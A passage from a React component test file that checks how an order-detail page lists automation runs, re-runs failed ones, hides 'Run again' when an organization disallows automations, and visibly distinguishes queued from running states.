    );
    const runs = within(region('Automations')).getAllByRole('listitem');
    expect(runs.map((item) => item.textContent)).toEqual([
      expect.stringMatching(/^Slack ✓succeeded .* · HTTP 200 — delivered \(HTTP 200\) Run again Slack$/),
      expect.stringMatching(/^provision ✗failed .* · exit 2Show output.*Run again provision$/s),
    ]);
    // The output is text, never markup; the details element keeps it folded until asked for.
    const output = within(runs[1] as HTMLElement).getByText(/quota exceeded/);
    expect(output.tagName).toBe('PRE');
    fireEvent.click(within(runs[1] as HTMLElement).getByRole('button', { name: 'Run again provision' }));
    await waitFor(() =>
      expect(bridge.callsOf('runAutomation')).toEqual([
        { orderId: FULL_ORDER_ID, automation: 'provision', account: 'id-eu' },
      ]),
    );
    // The page reads the order again, and shows the new run waiting.
    await waitFor(() =>
      expect(within(region('Automations')).getAllByRole('listitem')[1]?.textContent).toMatch(
        /waiting to run/,
      ),
    );
  });

  it('offer no Run again where the organization does not allow automations, and say why', async () => {
    const bridge = createFakeBridge({
      views: [fullView({ automationRuns: [run({ state: 'failed', httpStatus: 503 })] })],
    });
    renderWithUndo(
      bridge,
      <OrderDetail orderId={FULL_ORDER_ID} onBack={vi.fn()} automationsAllowed={false} />,
    );
    const automations = await screen.findByRole('region', { name: 'Automations' });
    expect(within(automations).queryByRole('button', { name: /Run again/ })).toBeNull();
    expect(automations.textContent).toContain(
      'Your organization does not allow automations on this computer: they do not run here.',
    );
  });

  it('tell a sighted person a run waiting for a slot from one running', async () => {
    // Both marks are "…": the words "waiting to run" and "running" are shown, not only to screen
    // readers, or a command waiting minutes for the process's command slots looks as if it ran.
    await renderOrder(
      fullView({
        automationRuns: [
          run({ automation: 'provision', state: 'queued', claimed: true, attempts: 0, startedAt: null }),
          run({
            deliveryId: '2c0f9d0e-5b53-4c8e-9f0e-2f7a1c3b6a11',
            automation: 'billing',
            state: 'running',
          }),
        ].map((r) => ({ ...r, finishedAt: null, httpStatus: null, detail: null })),
      }),
    );
    const visible = (item: HTMLElement | undefined) => {
      const copy = item?.cloneNode(true) as HTMLElement;
      for (const hidden of copy.querySelectorAll('.sr-only')) hidden.remove();
      return copy.textContent;
    };
    const [waiting, running] = within(region('Automations')).getAllByRole('listitem');
    expect(visible(waiting)).toMatch(/waiting/);
    expect(visible(running)).toMatch(/running/);
  });
});
